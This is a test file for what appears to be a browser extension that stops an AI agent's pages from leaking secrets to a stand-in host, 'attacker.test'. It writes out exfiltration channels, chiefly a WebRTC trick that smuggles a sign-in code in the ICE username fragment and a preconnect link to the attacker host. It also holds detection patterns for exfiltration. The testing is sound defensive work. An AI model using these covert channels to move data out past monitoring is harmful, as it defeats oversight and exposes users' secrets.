  test('after "Allow for this task" on a read of attacker.test, the agent still cannot open it with the shown code', async () => {
    test.setTimeout(90_000);
    const browser = await launch('full');
    try {
      await browser.setPolicy(readOnly());
      expect(await grantThenLeak(browser, `grant${++caseNumber}`)).toEqual({ granted: 1, leaked: 0 });
    } finally {
      await browser.close();
    }
  });

  test('negative control: without the extension the code arrives', async () => {
    const browser = await launch(null);
    try {
      expect(await grantThenLeak(browser, `grant-control${++caseNumber}`)).toEqual({ granted: 1, leaked: 1 });
    } finally {
      await browser.close();
    }
  });
});

test.describe('floor exfiltration without the extension (negative control)', () => {
  // One group: its test and the browser its beforeAll launches (see the builds' describe above).
  test.describe.configure({ mode: 'default' });
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    browser = await launch(null);
  });
  test.afterAll(async () => browser?.close());

  test('every attack reaches attacker.test', async () => {
    test.setTimeout(180_000);
    const results = await runAll(browser);
    for (const attack of ATTACKS) {
      await test.step(attack.name, () => expect.soft(results.get(attack.name), `${attack.name} did not reach attacker.test`).toBe(true));
    }
  });
});

/**
 * Channels the network floor cannot see, closed by browser settings during a task: WebRTC ICE checks
 * (STUN binding requests carry the username fragment — here the page's secret — to an address the page
 * names) and `<link rel=preconnect>`. Raw listeners on 127.0.0.1 log what arrives.
 */
interface Listeners {
  udpPort: number;
  tcpPort: number;
  /** Everything received over UDP (STUN), as latin1 text. */
  udp: string[];
  /** Connections accepted over TCP, with what they sent. */
  tcp: string[];
  close(): Promise<void>;
}

async function startListeners(): Promise<Listeners> {
  const udp: string[] = [];
  const tcp: string[] = [];
  const socket: Socket = createSocket('udp4');
  socket.on('message', (msg) => udp.push(msg.toString('latin1')));
  await new Promise<void>((done) => socket.bind(0, '127.0.0.1', done));
  const server: Server = createServer((conn) => {
    const index = tcp.push('') - 1;
    conn.on('data', (d: Buffer) => (tcp[index] += d.toString('latin1')));
    conn.on('error', () => undefined);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return {
    udpPort: socket.address().port,
    tcpPort: (server.address() as { port: number }).port,
    udp,
    tcp,
    close: async () => {
      socket.close();
      server.close();
    },
  };
}

/** Offers a data channel and answers with a remote candidate on our listeners; the ufrag carries the secret. */
async function webRtcLeak(page: Page, listeners: Listeners, ufrag: string): Promise<string> {
  return page.evaluate(
    async ({ udpPort, tcpPort, ufrag: remoteUfrag }) => {
      try {
        const pc = new RTCPeerConnection({ iceServers: [] });
        pc.createDataChannel('x');
        await pc.setLocalDescription(await pc.createOffer());
        const fingerprint = Array.from({ length: 32 }, () => 'AB').join(':');
        const sdp = [
          'v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
          `a=ice-ufrag:${remoteUfrag}`, `a=ice-pwd:${'p'.repeat(24)}`, `a=fingerprint:sha-256 ${fingerprint}`, 'a=setup:active', 'a=mid:0', 'a=sctp-port:5000',
          `a=candidate:1 1 udp 2122260223 127.0.0.1 ${udpPort} typ host`, `a=candidate:2 1 tcp 1518280447 127.0.0.1 ${tcpPort} typ host tcptype passive`, '',
        ].join('\r\n');
        await pc.setRemoteDescription({ type: 'answer', sdp });
        (window as unknown as { pcs: unknown[] }).pcs = [pc];
        return 'started';
      } catch (error) {
        return String(error);
      }
    },
    { udpPort: listeners.udpPort, tcpPort: listeners.tcpPort, ufrag },
  );
}

interface ChannelResult {
  /** A STUN binding request over UDP carried the ufrag (the secret). */
  udpStun: boolean;
  /** An ICE-TCP connection to the page-named candidate carried the ufrag. */
  tcpIce: boolean;
  /** `<link rel=preconnect>` opened a TCP connection. */
  preconnect: boolean;
}

async function channelLeaks(browser: AgentBrowser): Promise<ChannelResult> {
  const rtc = await startListeners();
  const preconnect = await startListeners();
  const id = `chan${++caseNumber}`;
  const secret = newSecret();
  server.setPage(`/show/${id}`, `<!doctype html><title>${id}</title><p>Sign-in code: ${secret.code}</p>`);
  const page = await browser.context.newPage();
  try {
    await page.goto(`${server.origin(HOME)}/show/${id}`);
    const ufrag = `leak${secret.code}`;
    await webRtcLeak(page, rtc, ufrag);
    await insert({ page } as Ctx, `<link rel="preconnect" href="http://${ATTACKER}:${preconnect.tcpPort}">`);
    const seen = (): ChannelResult => ({ udpStun: rtc.udp.some((m) => m.includes(ufrag)), tcpIce: rtc.tcp.some((m) => m.includes(ufrag)), preconnect: preconnect.tcp.length > 0 });
    // Watched for 3 s, or until both asserted channels have carried something (the negative control).
    for (const until = Date.now() + 3_000; Date.now() < until && !(seen().udpStun && seen().preconnect); ) await sleep(50);
    return seen();
  } finally {
    await Promise.race([page.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
    await rtc.close();
    await preconnect.close();
  }
}

test.describe('WebRTC and preconnect during a task', () => {
  test('with the extension (no MAIN-world hooks) no STUN over UDP and no preconnect; without it, both arrive', async () => {
    test.setTimeout(120_000);
    const control = await launch(null);
    try {
      const open = await channelLeaks(control);
      console.log(`channels without the extension: ${JSON.stringify(open)}`);
      expect(open).toMatchObject({ udpStun: true, preconnect: true });
    } finally {
      await control.close();
    }
    const guarded = await launch('nohooks');
    try {
      await guarded.setPolicy(readOnly());
      const closed = await channelLeaks(guarded);
      console.log(`channels guarded: ${JSON.stringify(closed)}`);
      expect(closed).toMatchObject({ udpStun: false, preconnect: false });
      // The settings are the user's again once the task ends.
      await guarded.endTask();
      const settings = await guarded.serviceWorker!.evaluate(async () => {
        const network = (globalThis as unknown as { chrome: { privacy: { network: Record<string, { get(d: object): Promise<{ value: unknown }> }> } } }).chrome.privacy.network;
        return [(await network.webRTCIPHandlingPolicy!.get({})).value, (await network.networkPredictionEnabled!.get({})).value];
      });
      expect(settings).toEqual(['default', true]);
    } finally {
      await guarded.close();
    }
  });
});

test('every regex of the floor compiles within Chromium\'s RE2 budget (isRegexSupported)', async () => {
  const browser = await launch('nohooks');
  try {
    // Each with the case sensitivity its rule uses (the floor's patterns case-insensitive, the taint's spaced ones not).
    const regexes = [...DEPENDENCY_HOST_PATTERNS, ...EXFIL_PATTERNS].map((p) => ({ regex: p.regex, isCaseSensitive: false }));
    // The port rules for the most ports the named sites may use (their packing is what could overflow).
    const ports = Array.from({ length: MAX_NAMED_PORTS }, (_, i) => 40000 + i * 1237);
    const portRules = buildSessionRules({ policy: parsePolicy(readOnly()), namedPorts: ports }, { excludedTabIds: [] }, 'x').filter((r) => r.condition.regexFilter?.startsWith('^[a-z]+://[^/?#@:'));
    expect(portRules.length).toBeGreaterThan(0);
    regexes.push(...portRules.map((r) => ({ regex: r.condition.regexFilter!, isCaseSensitive: false })), { regex: LONG_DEPENDENCY_URL, isCaseSensitive: true });
    regexes.push(...[...spacedRegexesOf('sk_live_4f9a2b7c1d8e3f60a5b9c2d7e1f4a8b3'), ...spacedRegexesOf('482913')].map((regex) => ({ regex, isCaseSensitive: true })));
    const verdicts = await browser.serviceWorker!.evaluate(
      (all) => Promise.all(all.map((options) => (globalThis as unknown as { chrome: { declarativeNetRequest: { isRegexSupported(o: object): Promise<{ isSupported: boolean }> } } }).chrome.declarativeNetRequest.isRegexSupported(options).then((r) => r.isSupported))),
      regexes,
    );
    expect(verdicts).toEqual(regexes.map(() => true));
  } finally {
    await browser.close();
  }
});
